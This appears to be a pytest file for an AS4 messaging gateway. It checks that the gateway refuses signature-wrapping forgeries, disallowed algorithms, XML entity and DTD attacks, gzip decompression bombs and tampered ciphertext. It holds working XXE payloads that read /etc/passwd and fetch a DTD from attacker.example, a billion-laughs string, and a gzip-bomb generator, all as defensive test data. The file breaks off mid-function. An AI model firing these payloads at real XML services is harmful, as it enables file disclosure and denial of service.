"""Fail closed: what the policy does not allow, signature wrapping, XML and MIME bombs, oversize input,
mustUnderstand headers we do not process. Each refusal has the code and the detail that names the cause.

``resign`` plays a partner who holds a valid key and signs something the policy forbids; ``rewrap`` plays
an attacker without a key who moves signed elements around.
"""

from __future__ import annotations

import base64
import copy
import gzip
import io
import random
import time
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from lxml import etree

from gateway.as4 import (
    EbmsCode,
    EbmsError,
    KeyPair,
    Outgoing,
    Payload,
    UserMessageReceived,
    build_user_message,
    mime,
    msh,
    parse_incoming,
    wss,
)
from gateway.as4 import envelope as envelope_module
from gateway.as4._ns import DS, EB, S12, WSSE, WSU, XENC, q
from gateway.as4.algorithms import DataEncryption, DigestMethod, KeyTransport, SignatureMethod
from gateway.as4.model import PartInfo, Property
from gateway.xmlsafe import parse_xml
from tests.as4.helpers import PERMIT, build, hand_built, policy_of, user_message
from tests.conftest import NOW

Mutation = Callable[[etree._Element], None]
_NS = {"ds": DS, "eb": EB, "env": S12, "wsse": WSSE, "xenc": XENC}
_SIGN_HASH = {SignatureMethod.RSA_SHA256: hashes.SHA256, SignatureMethod.RSA_SHA1: hashes.SHA1}


def _package(out: Outgoing) -> tuple[etree._Element, mime.Package]:
    package = mime.parse(out.content_type, out.body)
    return parse_xml(package.envelope), package


def _repack(
    root: etree._Element, package: mime.Package, extra: list[mime.MimePart] | None = None
) -> tuple[str, bytes]:
    parts = list(package.attachments.values()) + (extra or [])
    return mime.build(etree.tostring(root, xml_declaration=True, encoding="UTF-8"), parts)


def rewrap(out: Outgoing, mutate: Mutation) -> tuple[str, bytes]:
    """Change the envelope without re-signing (what an attacker in the middle can do)."""
    root, package = _package(out)
    mutate(root)
    return _repack(root, package)


def resign(
    out: Outgoing,
    key: KeyPair,
    mutate: Mutation,
    *,
    method: SignatureMethod = SignatureMethod.RSA_SHA256,
    extra: list[mime.MimePart] | None = None,
) -> tuple[str, bytes]:
    """Change the envelope, recompute the #id digests and sign SignedInfo again with ``key`` (a key holder)."""
    root, package = _package(out)
    mutate(root)
    ids = wss.index_ids(root)
    signed_info = _one(root, ".//ds:SignedInfo")
    assert signed_info is not None
    for ref in signed_info.findall("ds:Reference", _NS):
        uri = ref.get("URI", "")
        digest_method = _one(ref, "ds:DigestMethod").get("Algorithm")
        if uri.startswith("#") and uri[1:] in ids and digest_method in set(DigestMethod):
            octets = wss.exc_c14n(ids[uri[1:]])
            _one(ref, "ds:DigestValue").text = wss.digest_chunks(str(digest_method), [octets])
    _one(signed_info, "ds:SignatureMethod").set("Algorithm", method)
    value = key.private_key.sign(wss.exc_c14n(signed_info), padding.PKCS1v15(), _SIGN_HASH[method]())
    _one(root, ".//ds:SignatureValue").text = wss._b64(value)
    return _repack(root, package, extra)


def refused(content_type: str, body: bytes, sender: KeyPair, recipient: KeyPair, **policy: object) -> EbmsError:
    with pytest.raises(EbmsError) as caught:
        parse_incoming(
            content_type, body, policy_for=lambda um: policy_of(sender, **policy), keys=[recipient], now=NOW
        )
    return caught.value


def _one(element: etree._Element, path: str) -> etree._Element:
    found = element.find(path, _NS)
    assert found is not None, path
    return found


def _messaging(root: etree._Element) -> etree._Element:
    found = _one(root, ".//eb:Messaging")
    assert found is not None
    return found


def _header(root: etree._Element) -> etree._Element:
    found = _one(root, "env:Header")
    assert found is not None
    return found


def test_the_resign_helper_itself_produces_acceptable_messages(alice: KeyPair, bob: KeyPair) -> None:
    content_type, body = resign(build(alice, bob, NOW), alice, lambda root: None)
    event = parse_incoming(content_type, body, policy_for=lambda um: policy_of(alice), keys=[bob], now=NOW)
    assert event.payloads[0].data == PERMIT


# --- what the policy does not allow -------------------------------------------------------------------------


def test_unencrypted_attachment_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    message = user_message(
        NOW,
        parts=(PartInfo(href="cid:p@x.test", properties=(Property(name="MimeType", value="application/xml"),)),),
    )
    content_type, body = hand_built(alice, message, attachments=[("p@x.test", "application/xml", PERMIT)])
    error = refused(content_type, body, alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE
    assert "<p@x.test> is not encrypted" in error.detail


def test_rsa_sha1_signature_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    content_type, body = resign(build(alice, bob, NOW), alice, lambda r: None, method=SignatureMethod.RSA_SHA1)
    error = refused(content_type, body, alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "rsa-sha1" in error.detail
    # and accepted only where a partner's profile explicitly allows it
    parse_incoming(
        content_type,
        body,
        keys=[bob],
        now=NOW,
        policy_for=lambda um: policy_of(alice, signature_methods=frozenset({SignatureMethod.RSA_SHA1})),
    )


def test_sha1_digests_are_refused(alice: KeyPair, bob: KeyPair) -> None:
    def sha1(root: etree._Element) -> None:
        for method in root.iterfind(".//ds:SignedInfo/ds:Reference/ds:DigestMethod", _NS):
            method.set("Algorithm", DigestMethod.SHA1)

    content_type, body = resign(build(alice, bob, NOW), alice, sha1)
    error = refused(content_type, body, alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "xmldsig#sha1" in error.detail


def test_unknown_transform_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def xpath(root: etree._Element) -> None:
        transform = _one(root, ".//ds:SignedInfo/ds:Reference/ds:Transforms/ds:Transform")
        transform.set("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")

    error = refused(*resign(build(alice, bob, NOW), alice, xpath), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "REC-xpath" in error.detail


def test_an_extra_transform_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def enveloped(root: etree._Element) -> None:
        transforms = _one(root, ".//ds:SignedInfo/ds:Reference/ds:Transforms")
        etree.SubElement(
            transforms, q(DS, "Transform"), Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"
        )

    error = refused(*resign(build(alice, bob, NOW), alice, enveloped), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "enveloped-signature" in error.detail


def test_inclusive_canonicalization_of_signed_info_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def inclusive(root: etree._Element) -> None:
        _one(root, ".//ds:CanonicalizationMethod").set(
            "Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
        )

    error = refused(*resign(build(alice, bob, NOW), alice, inclusive), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "REC-xml-c14n" in error.detail


def test_key_transport_not_allowed_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def mgf1p(root: etree._Element) -> None:
        _one(root, ".//xenc:EncryptedKey/xenc:EncryptionMethod").set("Algorithm", KeyTransport.RSA_OAEP_MGF1P)

    error = refused(*rewrap(build(alice, bob, NOW), mgf1p), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "rsa-oaep-mgf1p" in error.detail


def test_data_encryption_not_allowed_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def aes256(root: etree._Element) -> None:
        _one(root, ".//xenc:EncryptedData/xenc:EncryptionMethod").set("Algorithm", DataEncryption.AES256_GCM)

    error = refused(*rewrap(build(alice, bob, NOW), aes256), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "aes256-gcm" in error.detail


def test_aes256_allowed_but_with_a_128_bit_key_is_a_decryption_failure(alice: KeyPair, bob: KeyPair) -> None:
    def aes256(root: etree._Element) -> None:
        _one(root, ".//xenc:EncryptedData/xenc:EncryptionMethod").set("Algorithm", DataEncryption.AES256_GCM)

    content_type, body = rewrap(build(alice, bob, NOW), aes256)
    error = refused(content_type, body, alice, bob, data_encryption=frozenset(DataEncryption))
    assert error.code is EbmsCode.FAILED_DECRYPTION and "16 bytes" in error.detail


def test_ciphertext_reference_without_the_swa_transform_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def no_transform(root: etree._Element) -> None:
        reference = _one(root, ".//xenc:CipherReference")
        reference.remove(_one(reference, "xenc:Transforms"))

    error = refused(*rewrap(build(alice, bob, NOW), no_transform), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "Attachment-Ciphertext-Transform" in error.detail


def test_weak_rsa_key_is_refused(bob: KeyPair) -> None:
    from datetime import timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "WEAK")])
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(NOW - timedelta(days=1))
        .not_valid_after(NOW + timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    weak = KeyPair(private_key=key, certificate=cert)
    out = build(weak, bob, NOW)
    error = refused(out.content_type, out.body, weak, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "RSA-1024" in error.detail


# --- signature wrapping -------------------------------------------------------------------------------------


def test_second_messaging_header_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def second(root: etree._Element) -> None:
        forged = copy.deepcopy(_messaging(root))
        forged.set(q(WSU, "Id"), "forged")
        _one(forged, ".//eb:Action").text = "ExportAuthorization"
        _header(root).insert(0, forged)

    error = refused(*rewrap(build(alice, bob, NOW), second), alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and "2 eb:Messaging blocks" in error.detail


@pytest.mark.parametrize("wrapper", ["header block", "security header", "body"])
def test_signed_messaging_moved_elsewhere_with_a_forgery_in_its_place_is_refused(
    alice: KeyPair, bob: KeyPair, wrapper: str
) -> None:
    """The classic wrapping attack: the signed block hides where the verifier still finds it by id."""

    def move(root: etree._Element) -> None:
        original = _messaging(root)
        forged = copy.deepcopy(original)
        del forged.attrib[q(WSU, "Id")]
        _one(forged, ".//eb:Action").text = "ExportAuthorization"
        header = _header(root)
        header.replace(original, forged)
        if wrapper == "header block":
            etree.SubElement(header, "{urn:attacker}Wrapper").append(original)
        elif wrapper == "security header":
            _one(header, "wsse:Security").append(original)
        else:
            _one(root, "env:Body").append(original)

    error = refused(*rewrap(build(alice, bob, NOW), move), alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER
    assert "eb:Messaging element sits inside" in error.detail


def test_forged_user_message_outside_messaging_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def smuggle(root: etree._Element) -> None:
        unit = copy.deepcopy(_one(root, ".//eb:UserMessage"))
        _one(root, "env:Body").append(unit)

    error = refused(*rewrap(build(alice, bob, NOW), smuggle), alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and "outside eb:Messaging" in error.detail


def test_second_body_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def second_body(root: etree._Element) -> None:
        root.append(etree.Element(q(S12, "Body")))

    error = refused(*rewrap(build(alice, bob, NOW), second_body), alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and "exactly one Header followed by one Body" in error.detail


def test_reference_to_anything_but_messaging_and_body_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def extra_reference(root: etree._Element) -> None:
        signed_info = _one(root, ".//ds:SignedInfo")
        token = _one(root, ".//wsse:BinarySecurityToken")
        ref = copy.deepcopy(_one(signed_info, "ds:Reference"))
        ref.set("URI", "#" + str(token.get(q(WSU, "Id"))))
        signed_info.append(ref)

    error = refused(*resign(build(alice, bob, NOW), alice, extra_reference), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "BinarySecurityToken" in error.detail


def test_signature_that_omits_messaging_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def drop(root: etree._Element) -> None:
        messaging_id = _messaging(root).get(q(WSU, "Id"))
        signed_info = _one(root, ".//ds:SignedInfo")
        signed_info.remove(_one(signed_info, f"ds:Reference[@URI='#{messaging_id}']"))

    error = refused(*resign(build(alice, bob, NOW), alice, drop), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "does not cover eb:Messaging" in error.detail


def test_repeated_reference_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    def repeat(root: etree._Element) -> None:
        signed_info = _one(root, ".//ds:SignedInfo")
        signed_info.append(copy.deepcopy(_one(signed_info, "ds:Reference")))

    error = refused(*resign(build(alice, bob, NOW), alice, repeat), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "more than once" in error.detail


def test_attachment_the_signature_does_not_cover_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    gz = (Property(name="MimeType", value="text/plain"),)

    def add_part_info(root: etree._Element) -> None:
        payload_info = _one(root, ".//eb:PayloadInfo")
        part = etree.SubElement(payload_info, q(EB, "PartInfo"), href="cid:unsigned@x.test")
        props = etree.SubElement(part, q(EB, "PartProperties"))
        etree.SubElement(props, q(EB, "Property"), name="MimeType").text = gz[0].value

    extra = [mime.MimePart.of("unsigned@x.test", "text/plain", b"added later")]
    content_type, body = resign(build(alice, bob, NOW), alice, add_part_info, extra=extra)
    error = refused(content_type, body, alice, bob, require_encryption=False)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "<unsigned@x.test> is not covered" in error.detail


def test_two_security_headers_and_two_signatures_are_refused(alice: KeyPair, bob: KeyPair) -> None:
    def two_headers(root: etree._Element) -> None:
        _header(root).append(etree.Element(q(WSSE, "Security")))

    def two_signatures(root: etree._Element) -> None:
        security = _one(root, ".//wsse:Security")
        security.append(copy.deepcopy(_one(security, "ds:Signature")))

    error = refused(*rewrap(build(alice, bob, NOW), two_headers), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "2 wsse:Security headers" in error.detail
    error = refused(*rewrap(build(alice, bob, NOW), two_signatures), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE
    assert "ds:Signature elements" in error.detail or "more than one element" in error.detail


def test_security_header_for_another_role_is_not_ours(alice: KeyPair, bob: KeyPair) -> None:
    def other_role(root: etree._Element) -> None:
        _one(root, ".//wsse:Security").set(q(S12, "role"), "urn:someone-else")

    error = refused(*rewrap(build(alice, bob, NOW), other_role), alice, bob)
    assert error.code is EbmsCode.POLICY_NONCOMPLIANCE and "not signed" in error.detail


# --- XML bombs and entities --------------------------------------------------------------------------------

XML_ATTACKS = {
    "internal entity": b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY a "b">]><e>&a;</e>',
    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;">'
    b'<!ENTITY l2 "&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;"><!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;">]><l>&l3;</l>',
    "external entity": b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><e>&x;</e>',
    "external DTD": b'<?xml version="1.0"?><!DOCTYPE e SYSTEM "http://attacker.example/evil.dtd"><e/>',
    "parameter entity": b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><e/>',
}


@pytest.mark.parametrize("attack", sorted(XML_ATTACKS))
def test_dtds_and_entities_in_the_envelope_are_refused(alice: KeyPair, bob: KeyPair, attack: str) -> None:
    error = refused("application/soap+xml", XML_ATTACKS[attack], alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and error.envelope_unreadable
    assert "DOCTYPE" in error.detail or "not well-formed" in error.detail


def test_doctype_inside_a_real_envelope_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    out = build(alice, bob, NOW)
    body = out.body.replace(b"?>", b'?><!DOCTYPE env:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
    error = refused(out.content_type, body, alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and "DOCTYPE" in error.detail


@pytest.mark.parametrize("attack", sorted(XML_ATTACKS))
def test_dtds_and_entities_in_an_xml_attachment_are_refused(alice: KeyPair, bob: KeyPair, attack: str) -> None:
    message = user_message(
        NOW,
        parts=(PartInfo(href="cid:p@x.test", properties=(Property(name="MimeType", value="application/xml"),)),),
    )
    harmless = b"<e/>"
    content_type, body = hand_built(alice, message, attachments=[("p@x.test", "application/xml", harmless)])
    body = body.replace(b"\r\n\r\n" + harmless, b"\r\n\r\n" + XML_ATTACKS[attack])
    error = refused(content_type, body, alice, bob, require_encryption=False)
    assert error.code is EbmsCode.FAILED_AUTHENTICATION
    assert "attachment <p@x.test>" in error.detail


# --- oversize input -----------------------------------------------------------------------------------------


def test_oversize_envelope_is_refused_before_parsing(alice: KeyPair, bob: KeyPair) -> None:
    body = b"<env:Envelope>" + b" " * envelope_module.MAX_ENVELOPE_BYTES + b"</env:Envelope>"
    error = refused("application/soap+xml", body, alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and "over the limit of" in error.detail


def test_deeply_nested_xml_is_refused(alice: KeyPair, bob: KeyPair) -> None:
    body = b"<a>" * 100_000 + b"</a>" * 100_000
    error = refused("application/soap+xml", body, alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and error.envelope_unreadable


# --- mustUnderstand -------------------------------------------------------------------------------------------


def _header_block(must_understand: str | None, role: str | None = None) -> Mutation:
    def add(root: etree._Element) -> None:
        block = etree.SubElement(_header(root), "{urn:unknown}Extension")
        if must_understand is not None:
            block.set(q(S12, "mustUnderstand"), must_understand)
        if role is not None:
            block.set(q(S12, "role"), role)

    return add


@pytest.mark.parametrize("value", ["true", "1"])
def test_must_understand_header_we_do_not_process_is_refused(alice: KeyPair, bob: KeyPair, value: str) -> None:
    error = refused(*rewrap(build(alice, bob, NOW), _header_block(value)), alice, bob)
    assert error.code is EbmsCode.FEATURE_NOT_SUPPORTED_UNPACKAGING and "{urn:unknown}Extension" in error.detail


@pytest.mark.parametrize(
    "block",
    [_header_block("false"), _header_block(None), _header_block("true", role="urn:some:other:node")],
    ids=["mustUnderstand=false", "no mustUnderstand", "for another role"],
)
def test_header_blocks_we_may_ignore_are_ignored(alice: KeyPair, bob: KeyPair, block: Mutation) -> None:
    content_type, body = rewrap(build(alice, bob, NOW), block)
    event = parse_incoming(content_type, body, policy_for=lambda um: policy_of(alice), keys=[bob], now=NOW)
    assert event.payloads[0].data == PERMIT


def test_must_understand_for_the_ultimate_receiver_is_ours(alice: KeyPair, bob: KeyPair) -> None:
    role = "http://www.w3.org/2003/05/soap-envelope/role/ultimateReceiver"
    error = refused(*rewrap(build(alice, bob, NOW), _header_block("true", role=role)), alice, bob)
    assert error.code is EbmsCode.FEATURE_NOT_SUPPORTED_UNPACKAGING


def test_must_understand_must_be_a_boolean(alice: KeyPair, bob: KeyPair) -> None:
    error = refused(*rewrap(build(alice, bob, NOW), _header_block("yes")), alice, bob)
    assert error.code is EbmsCode.INVALID_HEADER and "not a boolean" in error.detail


# --- compression bombs and broken gzip ------------------------------------------------------------------------


def _gzip_message(alice: KeyPair, data: bytes) -> tuple[str, bytes]:
    props = (
        Property(name="MimeType", value="application/xml"),
        Property(name="CompressionType", value="application/gzip"),
    )
    message = user_message(NOW, parts=(PartInfo(href="cid:p@x.test", properties=props),))
    return hand_built(alice, message, attachments=[("p@x.test", "application/gzip", data)])


def _bomb(size: int) -> bytes:
    out = io.BytesIO()
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    for _ in range(size >> 20):
        out.write(deflater.compress(block))
    out.write(deflater.flush())
    return out.getvalue()


def test_gzip_bomb_is_capped_by_the_default_limit(alice: KeyPair, bob: KeyPair) -> None:
    bomb = _bomb(msh.MAX_DECOMPRESSED_BYTES + (1 << 20))
    assert len(bomb) < 400_000  # 257 MiB of zeros in a few hundred KiB
    error = refused(*_gzip_message(alice, bomb), alice, bob, require_encryption=False)
    assert error.code is EbmsCode.DECOMPRESSION_FAILURE
    assert f"beyond the limit of {msh.MAX_DECOMPRESSED_BYTES} bytes" in error.detail


@pytest.mark.parametrize("spooled", [False, True])
def test_gzip_bomb_is_capped_by_a_caller_limit(alice: KeyPair, bob: KeyPair, spooled: bool) -> None:
    content_type, body = _gzip_message(alice, _bomb(8 << 20))
    with pytest.raises(EbmsError) as caught:
        parse_incoming(
            content_type,
            body,
            policy_for=lambda um: policy_of(alice, require_encryption=False),
            keys=[bob],
            now=NOW,
            max_payload_bytes=1 << 20,
            spool_threshold=1024 if spooled else None,
        )
    assert (
        caught.value.code is EbmsCode.DECOMPRESSION_FAILURE
        and "beyond the limit of 1048576" in caught.value.detail
    )


@pytest.mark.parametrize(
    ("data", "detail"),
    [
        (b"not gzip at all", "not valid gzip"),
        (gzip.compress(PERMIT)[:-12], "truncated"),
        (gzip.compress(PERMIT) + b"trailing garbage", "not valid gzip"),
        (b"", "truncated"),
    ],
    ids=["not gzip", "truncated", "trailing garbage", "empty"],
)
@pytest.mark.parametrize("spooled", [False, True])
def test_broken_gzip_is_ebms_0303(alice: KeyPair, bob: KeyPair, data: bytes, detail: str, spooled: bool) -> None:
    content_type, body = _gzip_message(alice, data)
    with pytest.raises(EbmsError) as caught:
        parse_incoming(
            content_type,
            body,
            policy_for=lambda um: policy_of(alice, require_encryption=False),
            keys=[bob],
            now=NOW,
            spool_threshold=1 if spooled else None,
        )
    assert caught.value.code is EbmsCode.DECOMPRESSION_FAILURE and detail in caught.value.detail


@pytest.mark.parametrize("spooled", [False, True])
def test_multi_member_gzip_is_one_payload(alice: KeyPair, bob: KeyPair, spooled: bool) -> None:
    content_type, body = _gzip_message(alice, gzip.compress(PERMIT[:100]) + gzip.compress(PERMIT[100:]))
    event = parse_incoming(
        content_type,
        body,
        policy_for=lambda um: policy_of(alice, require_encryption=False),
        keys=[bob],
        now=NOW,
        spool_threshold=1 if spooled else None,
    )
    assert event.payloads[0].read() == PERMIT


def _inflated(alice: KeyPair, bob: KeyPair, data: bytes, spooled: bool) -> UserMessageReceived:
    return parse_incoming(
        *_gzip_message(alice, data),
        policy_for=lambda um: policy_of(alice, require_encryption=False),
        keys=[bob],
        now=NOW,
        spool_threshold=1 if spooled else None,
    )


@pytest.mark.parametrize("spooled", [False, True])
def test_a_part_of_empty_gzip_members_is_refused_at_the_member_limit(
    alice: KeyPair, bob: KeyPair, spooled: bool
) -> None:
    """Empty members inflate to nothing, so the size cap never fires: 4 MB of them took 17 s to accept."""
    empty = gzip.compress(b"", mtime=0)
    started = time.process_time()
    with pytest.raises(EbmsError) as caught:
        _inflated(alice, bob, empty * 200_000, spooled)
    assert time.process_time() - started < 2
    assert caught.value.code is EbmsCode.DECOMPRESSION_FAILURE
    assert f"<p@x.test> holds more than {msh.MAX_GZIP_MEMBERS} gzip members" in caught.value.detail


@pytest.mark.parametrize("spooled", [False, True])
def test_gzip_members_up_to_the_limit_are_one_payload(alice: KeyPair, bob: KeyPair, spooled: bool) -> None:
    noise = random.Random(7).randbytes(1_500_000)  # incompressible: members span the 1 MiB inflate windows
    pieces = [noise[:600_000], b"", noise[600_000:]] + [PERMIT] * (msh.MAX_GZIP_MEMBERS - 3)
    members = b"".join(gzip.compress(piece, mtime=0) for piece in pieces)
    assert _inflated(alice, bob, members, spooled).payloads[0].read() == b"".join(pieces)
    with pytest.raises(EbmsError) as caught:
        _inflated(alice, bob, members + gzip.compress(PERMIT), spooled)
    assert caught.value.code is EbmsCode.DECOMPRESSION_FAILURE
    assert f"more than {msh.MAX_GZIP_MEMBERS} gzip members" in caught.value.detail


def test_decompression_uses_the_declared_compression_type_only(alice: KeyPair, bob: KeyPair) -> None:
    props = (
        Property(name="MimeType", value="application/xml"),
        Property(name="CompressionType", value="application/x-bzip2"),
    )
    message = user_message(NOW, parts=(PartInfo(href="cid:p@x.test", properties=props),))
    content_type, body = hand_built(
        alice, message, attachments=[("p@x.test", "application/gzip", gzip.compress(PERMIT))]
    )
    error = refused(content_type, body, alice, bob, require_encryption=False)
    assert error.code is EbmsCode.DECOMPRESSION_FAILURE and "application/x-bzip2" in error.detail


def test_tampered_ciphertext_never_yields_plaintext(alice: KeyPair, bob: KeyPair) -> None:
    payload = Payload(content_id="p@x.test", mime_type="application/octet-stream", data=b"\x00" * 100_000)
    out = build_user_message(
        user_message(NOW), [payload], sender=alice, recipient_certificate=bob.certificate, compress=False
    )
    tail = out.body.rindex(b"\r\n--MIMEBoundary")
    for offset in (tail - 1, tail - 17, tail - 5000):  # the tag, the last block, the middle
        body = out.body[:offset] + bytes([out.body[offset] ^ 0x80]) + out.body[offset + 1 :]
        error = refused(out.content_type, body, alice, bob)
        assert error.code is EbmsCode.FAILED_DECRYPTION and "AES-GCM authentication" in error.detail


def test_gzip_trailer_size_is_only_a_hint(alice: KeyPair, bob: KeyPair) -> None:
    """The in-memory inflater sizes its buffer from the trailer; a small or lying trailer changes nothing."""
    compressed = gzip.compress(PERMIT)
    lying = compressed[:-4] + (1).to_bytes(4, "little")
    error = refused(*_gzip_message(alice, lying), alice, bob, require_encryption=False)
    assert error.code is EbmsCode.DECOMPRESSION_FAILURE and "not valid gzip" in error.detail
    several = gzip.compress(PERMIT[:5]) + gzip.compress(PERMIT[5:])  # the trailer describes the last member only
    event = parse_incoming(
        *_gzip_message(alice, several),
        policy_for=lambda um: policy_of(alice, require_encryption=False),
        keys=[bob],
        now=NOW,
    )
    assert event.payloads[0].data == PERMIT


@pytest.mark.parametrize("spooled", [False, True])
def test_the_decompression_cap_holds_for_all_payloads_together(
    alice: KeyPair, bob: KeyPair, spooled: bool
) -> None:
    gz = (
        Property(name="MimeType", value="application/xml"),
        Property(name="CompressionType", value="application/gzip"),
    )
    parts = tuple(PartInfo(href=f"cid:p{i}@x.test", properties=gz) for i in range(3))
    message = user_message(NOW, parts=parts)
    each = gzip.compress(b"\0" * 400_000)
    content_type, body = hand_built(
        alice, message, attachments=[(f"p{i}@x.test", "application/gzip", each) for i in range(3)]
    )
    policy = policy_of(alice, require_encryption=False)
    event = parse_incoming(
        content_type, body, policy_for=lambda um: policy, keys=[bob], now=NOW, max_payload_bytes=1_200_000
    )
    assert [p.size for p in event.payloads] == [400_000] * 3
    with pytest.raises(EbmsError) as caught:
        parse_incoming(
            content_type,
            body,
            policy_for=lambda um: policy,
            keys=[bob],
            now=NOW,
            max_payload_bytes=1_000_000,
            spool_threshold=1 if spooled else None,
        )
    assert caught.value.code is EbmsCode.DECOMPRESSION_FAILURE
    assert "<p2@x.test> inflates beyond the limit of 200000 bytes" in caught.value.detail


# Found by fuzzing: well-formed input that a library refuses only late, or parses only when first read.


def test_a_relative_namespace_uri_in_a_signed_part_is_an_authentication_failure(
    alice: KeyPair, bob: KeyPair
) -> None:
    """libxml2 cannot canonicalize a relative namespace URI; that raised lxml's C14NError, not an ebMS error."""
    root, package = _package(build(alice, bob, NOW))
    envelope = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    opening = envelope.index(b"<eb:Messaging ") + len(b"<eb:Messaging ")
    envelope = envelope[:opening] + b'xmlns:rel="rel/x" ' + envelope[opening:]
    content_type, body = mime.build(envelope, list(package.attachments.values()))
    error = refused(content_type, body, alice, bob)
    assert error.code is EbmsCode.FAILED_AUTHENTICATION
    assert "<Messaging>" in error.detail and "relative namespace URI" in error.detail


def _retag_subject(der: bytes, subject: bytes, tag: int) -> bytes:
    """The CN's UTF8String in the subject retagged: cryptography loads the certificate, parsing names lazily."""
    changed = bytearray(der)
    changed[der.rindex(subject) + subject.index(b"\x0c")] = tag
    return bytes(changed)


_V3 = bytes.fromhex("a003020102")  # [0] EXPLICIT INTEGER 2


@pytest.mark.parametrize(
    ("damage", "named"),
    [
        (lambda der, subject: _retag_subject(der, subject, 0x05), "its subject cannot be read"),
        (lambda der, subject: _retag_subject(der, subject, 0x03), "its subject cannot be read"),
        (lambda der, subject: der.replace(_V3, bytes.fromhex("a003020121"), 1), "not a valid X509 version"),
    ],
    ids=["subject-NULL", "subject-BIT-STRING", "version-34"],
)
def test_a_token_that_cannot_be_read_is_no_certificate(
    alice: KeyPair, bob: KeyPair, damage: Callable[[bytes, bytes], bytes], named: str
) -> None:
    """Found by fuzzing: cryptography parses a certificate's names lazily, so a broken subject loaded and then
    raised ValueError or TypeError inside the trust check; an unknown version raised InvalidVersion, which is
    no ValueError."""
    der = alice.certificate.public_bytes(serialization.Encoding.DER)
    broken = base64.b64encode(damage(der, alice.certificate.subject.public_bytes())).decode()
    signer = base64.b64encode(der).decode()

    def swap_token(root: etree._Element) -> None:
        (token,) = [t for t in root.iterfind(".//wsse:BinarySecurityToken", _NS) if t.text == signer]
        token.text = broken

    error = refused(*rewrap(build(alice, bob, NOW), swap_token), alice, bob)
    assert error.code is EbmsCode.FAILED_AUTHENTICATION
    assert "wsse:BinarySecurityToken is not a certificate" in error.detail and named in error.detail


def _rebuilt(out: Outgoing, change: Callable[[etree._Element], None]) -> tuple[str, bytes]:
    """``out`` with its envelope changed by ``change``, repackaged with the same attachments."""
    package = mime.parse(out.content_type, out.body)
    root = parse_xml(package.envelope)
    change(root)
    return mime.build(
        etree.tostring(root, xml_declaration=True, encoding="UTF-8"), list(package.attachments.values())
    )


def _counting_unwraps(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    calls: list[object] = []
    real = wss._unwrap

    def counted(*args: Any, **kw: Any) -> bytes:
        calls.append(args[0])
        return real(*args, **kw)

    monkeypatch.setattr(wss, "_unwrap", counted)
    return calls


def test_a_sender_who_cannot_sign_as_the_partner_costs_no_private_key_operation(
    alice: KeyPair, bob: KeyPair, mallory: KeyPair, monkeypatch: pytest.MonkeyPatch
